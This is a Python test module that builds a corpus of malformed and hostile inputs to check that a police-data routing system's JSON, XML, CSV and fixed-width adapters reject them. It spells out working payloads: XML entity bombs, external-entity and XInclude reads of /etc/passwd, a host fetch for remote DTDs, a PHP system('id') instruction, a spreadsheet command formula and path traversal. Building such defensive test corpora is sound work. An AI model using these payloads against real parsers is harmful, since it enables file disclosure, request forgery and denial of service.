"""The hostile corpus: malicious or broken inputs for every inbound format, generated deterministically.

    python -m tests.hostile.make_corpus [DIR]     # writes the corpus to DIR (default: prints counts)

`corpus()` yields `Case(format, name, body, expected)`: `format` is `common-json` (sent through the
routing core on RabbitMQ; `expected` is the reject reason it must get) or an adapter name (translated
directly; it must yield an AdapterError).  The big cases (10 MB field, a million columns) are built at
test time rather than committed.  Hand-written cases live beside this file in `hand/<format>/`.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).parent
ROOT = HERE.parent.parent
EXAMPLES = ROOT / "examples" / "records"
HAND_EXPECTED = {"common-json": "malformed_json"}


@dataclass(frozen=True)
class Case:
    format: str
    name: str
    body: bytes
    expected: str = "adapter_error"
    content_type: str = "application/json"


def _record(name: str = "01-crime.report-burglary-victim-suspect.json") -> dict:
    return json.loads((EXAMPLES / name).read_text())


def _dump(doc: object) -> bytes:
    return json.dumps(doc, separators=(",", ":"), ensure_ascii=False).encode()


# ---------------------------------------------------------------- the routing core (common-schema JSON)


def json_cases() -> Iterator[Case]:
    base = _record()
    body = _dump(base)
    n = 0

    def case(name: str, data: bytes, expected: str, content_type: str = "application/json") -> Case:
        nonlocal n
        n += 1
        return Case("common-json", f"{n:03d}-{name}", data, expected, content_type)

    def variant(name: str, expected: str, change) -> Case:
        doc = json.loads(body)
        doc["id"] = f"hostile-{n + 1:03d}-{name}"
        change(doc)
        return case(name, _dump(doc), expected)

    for cut in range(1, len(body), max(1, len(body) // 80)):  # truncated at 80 points
        yield case(f"truncated-at-{cut}", body[:cut], "malformed_json")
    for at in range(5, len(body), len(body) // 12):  # NUL bytes, raw and in strings
        yield case(f"nul-byte-at-{at}", body[:at] + b"\x00" + body[at:], "malformed_json")
    for bad in (b"\xff", b"\xc3\x28", b"\xe2\x82", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\x80"):
        yield case(
            f"invalid-utf8-{bad.hex()}",
            body.replace(b"Burglary", b"Burgl" + bad + b"ary", 1)
            if b"Burglary" in body
            else body[:50] + bad + body[50:],
            "malformed_json",
        )
    yield case("latin1-in-utf8", body.replace(b'"given":["', b'"given":["Ren\xe9 ', 1), "malformed_json")
    yield case("utf16-le-bom", b"\xff\xfe" + json.dumps(base).encode("utf-16-le"), "malformed_json")
    yield case("utf16-be", json.dumps(base).encode("utf-16-be"), "malformed_json")
    yield case("utf32", json.dumps(base).encode("utf-32"), "malformed_json")
    yield case("utf8-bom", b"\xef\xbb\xbf" + body, "malformed_json")
    yield case("cp1252-smart-quotes", body[:-1] + b',"x":"\x93q\x94"}', "malformed_json")
    for word in (b"NaN", b"Infinity", b"-Infinity", b"1e400", b"-1e400", b"nan"):
        yield case(f"number-{word.decode()}", body[:-1] + b',"x":' + word + b"}", "malformed_json")
    for depth in (1100, 5000, 100_000):
        yield case(f"deep-arrays-{depth}", b"[" * depth + b"]" * depth, "malformed_json")
        yield case(f"deep-objects-{depth}", b'{"a":' * depth + b"1" + b"}" * depth, "malformed_json")
    for depth in (200, 1000):
        nested = b'{"a":' * depth + b"1" + b"}" * depth
        yield case(
            f"deep-in-record-{depth}",
            body[:-1] + b',"data2":' + nested + b"}",
            "schema_invalid" if depth < 900 else "malformed_json",
        )  # too deep to check for duplicates
    for key in ("id", "origin", "type", "classification", "data"):
        value = _dump(base[key])
        yield case(f"duplicate-{key}", body[:-1] + f',"{key}":'.encode() + value + b"}", "malformed_json")
    yield case(
        "duplicate-origin-first-wins-elsewhere",
        body.replace(b'"origin":', b'"origin":{"agency":"48","system":"x"},"origin":', 1),
        "malformed_json",
    )
    yield case(
        "duplicate-nested-agency",
        body.replace(b'"agency":"01"', b'"agency":"48","agency":"01"', 1),
        "malformed_json",
    )
    yield case("duplicate-escaped-key", body[:-1] + b',"\\u0069d":"other"}', "malformed_json")
    for top in (b"[]", b'"record"', b"1", b"null", b"true", b"[{}]"):
        yield case(f"top-level-{top.decode()[:6]}", top, "schema_invalid")
    for junk in (b"", b" ", b"{", b"}", b"{'id': 'x'}", b"<record/>", b"\x00" * 64, b"id=1&type=x"):
        yield case(f"junk-{junk[:6].hex() or 'empty'}", junk, "malformed_json")
    for ctype in (
        "application/xml",
        "text/csv",
        "application/octet-stream",
        "text/html",
        "multipart/form-data",
    ):
        yield case(f"content-type-{ctype.replace('/', '-')}", body, "unsupported_content_type", ctype)
    yield variant("huge-integer", "schema_invalid", lambda d: d.update(time=10**40))
    yield variant("huge-float-field", "schema_invalid", lambda d: d["data"].update(crime_ref=1.7e308))
    # identifiers with wrong check characters
    pnc_bad = ("2001/0171310S", "2001/0171310A", "2001/0171310X", "2001/01713100W", "01/0171310W/")
    for i, value in enumerate(pnc_bad):
        yield variant(
            f"pnc-bad-{i}",
            "identifier_invalid",
            lambda d, v=value: (
                d["data"]["persons"][0].setdefault("identifiers", []).append({"scheme": "pnc", "value": v})
            ),
        )
    for i, value in enumerate(("943 476 5918", "123 456 7890", "943 476 5911")):
        yield variant(
            f"nhs-bad-{i}",
            "identifier_invalid",
            lambda d, v=value: (
                d["data"]["persons"][0].setdefault("identifiers", []).append({"scheme": "nhs", "value": v})
            ),
        )
    for i, value in enumerate(("QQ123456C", "AB123456E", "DA123456A")):
        yield variant(
            f"nino-bad-{i}",
            "identifier_invalid",
            lambda d, v=value: (
                d["data"]["persons"][0].setdefault("identifiers", []).append({"scheme": "nino", "value": v})
            ),
        )
    # dates that do not exist, or are not dates
    for i, value in enumerate(
        (
            "2026-02-30T09:00:00Z",
            "2026-13-01T00:00:00Z",
            "2025-02-29T00:00:00Z",
            "2026-04-31T00:00:00Z",
            "2026-01-01T25:00:00Z",
            "2026-01-01T00:61:00Z",
            "0000-00-00T00:00:00Z",
            "yesterday",
            "2026-11-26",
        )
    ):
        yield variant(f"bad-time-{i}", "schema_invalid", lambda d, v=value: d.update(time=v))
    for i, value in enumerate(("2026-02-30", "1999-02-29", "2026-00-10", "31/12/1980")):
        yield variant(
            f"bad-birth-date-{i}",
            "schema_invalid",
            lambda d, v=value: d["data"]["persons"][0].update(birth_date=v),
        )
    # envelope attacks
    yield variant("secret", "classification_not_permitted", lambda d: d["classification"].update(tier="SECRET"))
    yield variant("top-secret", "classification_not_permitted", lambda d: d["classification"].update(tier="TOP SECRET"))
    yield variant("unknown-agency", "unknown_agency", lambda d: d["origin"].update(agency="99"))
    yield variant("agency-injection", "schema_invalid", lambda d: d["origin"].update(agency="01\n48"))
    yield variant("id-path-traversal", "schema_invalid", lambda d: d.update(id="../../etc/passwd"))
    yield variant("id-too-long", "schema_invalid", lambda d: d.update(id="x" * 10_000))
    yield variant("id-not-string", "schema_invalid", lambda d: d.update(id=12345))
    yield variant("correlation-id-300", "schema_invalid", lambda d: d.update(correlation_id="c" * 300))
    yield variant("correlation-id-object", "schema_invalid", lambda d: d.update(correlation_id={"x": 1}))
    yield variant("type-unknown", "schema_invalid", lambda d: d.update(type="crime.report.v99"))
    yield variant("extra-envelope-field", "schema_invalid", lambda d: d.update(__proto__={"admin": True}))
    yield variant("proto-in-data", "schema_invalid", lambda d: d["data"].update(constructor={"prototype": 1}))
    yield variant("formula-as-type", "schema_invalid", lambda d: d.update(type="=cmd|' /C calc'!A0"))
    yield variant("subjects-dangling", "schema_invalid", lambda d: d.update(subjects=[{"$ref": "x"}]))
    yield variant("handling-bogus", "schema_invalid", lambda d: d.update(handling={"scheme": "9x9x9"}))
    yield variant("no-origin", "schema_invalid", lambda d: d.pop("origin"))
    yield variant("no-classification", "schema_invalid", lambda d: d.pop("classification"))
    yield variant("data-is-list", "schema_invalid", lambda d: d.update(data=[1, 2, 3]))
    yield variant(
        "persons-10k",
        "schema_invalid",
        lambda d: d["data"].update(persons=[{"id": f"p{i}"} for i in range(10_000)]),
    )
    yield variant("long-string-1mb", "schema_invalid", lambda d: d["data"].update(summary="A" * 1_000_000, bogus=1))
    yield variant("control-chars", "schema_invalid", lambda d: d.update(id="hostile\u0000\u001b[2J"))
    yield variant("unicode-bidi-id", "schema_invalid", lambda d: d.update(id="01-\u202eevil"))
    yield variant("many-keys-100k", "schema_invalid", lambda d: d["data"].update({f"k{i}": i for i in range(100_000)}))


def big_json_cases() -> Iterator[Case]:
    """Built at test time: too big to commit."""
    body = _dump(_record())
    yield Case("common-json", "big-10mb-field", body[:-1] + b',"x":"' + b"A" * 10_000_000 + b'"}', "body_too_large")
    columns = b",".join(b'"c%d":0' % i for i in range(1_000_000))
    yield Case("common-json", "big-million-columns", b"{" + columns + b"}", "body_too_large")
    yield Case("common-json", "big-million-element-array", b"[" + b"0," * 999_999 + b"0]", "schema_invalid")


# ---------------------------------------------------------------- the adapters

XML_ROOTS = {
    "cjse-spi": ("DeliverRequest", "http://schemas.cjse.gov.uk/messages/deliver/2006-05"),
    "niem-nibrs": ("nibrs:Submission", "http://fbi.gov/cjis/nibrs/4.2"),
}


def xml_cases(adapter: str, fixture: bytes) -> Iterator[Case]:
    root, ns = XML_ROOTS[adapter]
    decl = b'<?xml version="1.0" encoding="UTF-8"?>\n'
    prefix = f":{root.split(':')[0]}" if ":" in root else ""
    opened, closed = f'<{root} xmlns{prefix}="{ns}"'.encode(), f"</{root}>".encode()  # the right root

    def case(name: str, data: bytes) -> Case:
        return Case(adapter, name, data)

    lol = b"".join(
        b'<!ENTITY l%d "&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;">' % ((i,) + (i - 1,) * 10)
        for i in range(1, 10)
    )
    yield case("billion-laughs", decl + b'<!DOCTYPE r [<!ENTITY l0 "lol">' + lol + b"]><r>&l9;</r>")
    yield case(
        "quadratic-blowup",
        decl + b'<!DOCTYPE r [<!ENTITY a "' + b"x" * 50_000 + b'">]><r>' + b"&a;" * 50_000 + b"</r>",
    )
    yield case("external-entity-file", decl + b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>')
    yield case("external-entity-http", decl + b'<!DOCTYPE r [<!ENTITY x SYSTEM "http://198.51.100.1/x">]><r>&x;</r>')
    yield case("parameter-entity", decl + b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://198.51.100.1/p.dtd"> %p;]><r/>')
    yield case("external-dtd", decl + b'<!DOCTYPE r SYSTEM "http://198.51.100.1/evil.dtd"><r/>')
    yield case("external-dtd-public", decl + b'<!DOCTYPE r PUBLIC "-//X//Y" "file:///etc/passwd"><r/>')
    yield case(
        "entity-in-fixture",
        fixture.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>', 1),
    )
    yield case(
        "xinclude",
        fixture.replace(f"<{root}".encode(), f'<{root} xmlns:xi="http://www.w3.org/2001/XInclude"'.encode(), 1).replace(
            b"</", b'<xi:include href="file:///etc/passwd" parse="text"/></', 1
        ),
    )
    yield case("pi-before-root", decl + b'<?xml-stylesheet href="http://198.51.100.1/x.xsl"?><r/>')
    yield case("pi-php", decl + b"<r><?php system('id'); ?></r>")
    yield case("deep-nesting", decl + b"<a>" * 100_000 + b"</a>" * 100_000)
    yield case("deep-nesting-70", decl + b"<a>" * 70 + b"</a>" * 70)
    yield case("huge-text", decl + b"<r>" + b"A" * 5_000_000 + b"</r>")
    yield case("huge-attribute", decl + b'<r a="' + b"A" * 1_000_000 + b'"/>')
    yield case(
        "attribute-count", decl + opened + b" " + b" ".join(b'a%d="1"' % i for i in range(100_000)) + b"/>"
    )  # a 1.1 MB start tag: refused on the raw bytes
    yield case(
        "attribute-count-short",
        decl + opened + b" " + b" ".join(b'a%x=""' % i for i in range(100_000)) + b"/>",
    )  # 0.9 MB: refused by counting the attributes before reading any value
    yield case(
        "namespace-bomb",
        decl + b"<r " + b" ".join(b'xmlns:n%d="urn:%d"' % (i, i) for i in range(50_000)) + b"/>",
    )
    yield case("huge-comment", decl + b"<r><!--" + b"-" * 0 + b"c" * 5_000_000 + b"--></r>")
    yield case("huge-cdata", decl + b"<r><![CDATA[" + b"c" * 5_000_000 + b"]]></r>")
    yield case("many-elements", decl + b"<r>" + b"<e/>" * 300_000 + b"</r>")
    yield case("many-elements-in-root", decl + opened + b">" + b"<e/>" * 2_100_000 + closed)
    for cut in (10, len(fixture) // 3, len(fixture) // 2, len(fixture) - 5):
        yield case(f"truncated-{cut}", fixture[:cut])
    yield case("nul-byte", fixture[:200] + b"\x00" + fixture[200:])
    yield case("invalid-utf8", fixture.replace(b">", b">\xff\xfe", 3))
    yield case("declared-utf16-is-utf8", fixture.replace(b'encoding="UTF-8"', b'encoding="UTF-16"', 1))
    yield case("declared-ebcdic", fixture.replace(b'encoding="UTF-8"', b'encoding="IBM037"', 1))
    yield case("mixed-encoding-latin1", fixture.replace(b"</", "é</".encode("latin-1"), 2))
    yield case("empty", b"")
    yield case("not-xml", b"this is not xml at all\n")
    yield case("json-instead", _dump(_record()))
    yield case("wrong-root", decl + f'<Other xmlns="{ns}"/>'.encode())
    yield case("two-roots", decl + b"<r/><r/>")
    yield case("unclosed", decl + f"<{root}><x>".encode())
    yield case("unknown-prefix", decl + b"<p:r/>")


def csv_cases(adapter: str, header: bytes, row: bytes) -> Iterator[Case]:
    def case(name: str, data: bytes) -> Case:
        return Case(adapter, name, data)

    yield case("empty", b"")
    yield case("header-only-wrong", b"a,b,c\n1,2,3\n")
    yield case("binary", bytes(range(256)) * 4)
    yield case("nul-in-header", header.replace(b",", b"\x00,", 1) + row)
    yield case("huge-field", header + b'"' + b"A" * 10_000_000 + b'",' + row)
    yield case("million-columns", header + b",".join([b"x"] * 1_000_000) + b"\n")
    yield case("unterminated-quote", header + b'"' + row)
    yield case("quote-bomb", header + b'"' * 1_000_001 + b"\n")
    yield case("utf16", (header + row).decode("utf-8", "replace").encode("utf-16"))
    yield case("invalid-bytes", header + row.replace(b",", b"\xff\xfe,", 2))
    yield case("truncated-header", header[: len(header) // 2])
    yield case("json-instead", _dump(_record()))
    yield case("xml-instead", b'<?xml version="1.0"?><r/>')
    yield case("only-newlines", b"\n" * 100_000)
    yield case("bidi-header", header.replace(b",", "\u202e,".encode(), 1) + row)


def fixed_width_cases(fixture: bytes) -> Iterator[Case]:
    def case(name: str, data: bytes) -> Case:
        return Case("fixed-width", name, data)

    yield case("empty", b"")
    yield case("binary", bytes(range(256)) * 8)
    yield case("one-huge-line", b"CRFB" + b"X" * 10_000_000 + b"\n")
    yield case("nul-bytes", fixture.replace(b" ", b"\x00", 40))
    yield case("truncated-record", fixture[: len(fixture) // 3])
    yield case("short-lines", b"\n".join(line[:10] for line in fixture.splitlines()))
    yield case("unknown-record-type", b"ZZZZ" + fixture[4:])
    yield case("json-instead", _dump(_record()))
    yield case("only-newlines", b"\n" * 100_000)
    yield case("invalid-dates", fixture.replace(b"20260112", b"20260230", 1).replace(b"19800101", b"19801332", 1))


def adapter_cases() -> Iterator[Case]:
    spi = (ROOT / "adapters/cjse_spi/fixtures/spi-034a-valid-asn.xml").read_bytes()
    niem = (ROOT / "adapters/niem/fixtures/nibrs-group-a-incident.xml").read_bytes()
    yield from xml_cases("cjse-spi", spi)
    yield from xml_cases("niem-nibrs", niem)
    street = (
        b"Crime ID,Month,Reported by,Falls within,Longitude,Latitude,Location,LSOA code,LSOA name,"
        b"Crime type,Last outcome category,Context\n"
    )
    yield from csv_cases(
        "police-uk-csv",
        street,
        b"abc,2017-01,City of London Police,City of London Police,"
        b"-0.11,51.51,On or near X,E01000914,Camden 028B,Burglary,,\n",
    )
    custody = (ROOT / "adapters/custody_csv/fixtures/force-a-custody.csv").read_bytes()
    header, _, rest = custody.partition(b"\n")
    yield from csv_cases("custody-csv", header + b"\n", rest.split(b"\n")[0] + b"\n")
    yield from fixed_width_cases((ROOT / "adapters/fixed_width/fixtures/force-b.txt").read_bytes())


def hand_cases() -> Iterator[Case]:
    """Hand-written files in hand/<format>/ (expected reason in the file name before '--', if any)."""
    for path in sorted((HERE / "hand").glob("*/*")):
        fmt = path.parent.name
        expected = path.name.split("--")[0] if "--" in path.name else HAND_EXPECTED.get(fmt, "adapter_error")
        yield Case(fmt, f"hand-{path.name}", path.read_bytes(), expected)


def corpus(big: bool = True) -> list[Case]:
    cases = [*json_cases(), *adapter_cases(), *hand_cases()]
    return cases + list(big_json_cases()) if big else cases


if __name__ == "__main__":
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else None
    counts: dict[str, int] = {}
    for c in corpus():
        counts[c.format] = counts.get(c.format, 0) + 1
        if out:
            (out / c.format).mkdir(parents=True, exist_ok=True)
            (out / c.format / c.name).write_bytes(c.body)
    print(counts, sum(counts.values()))
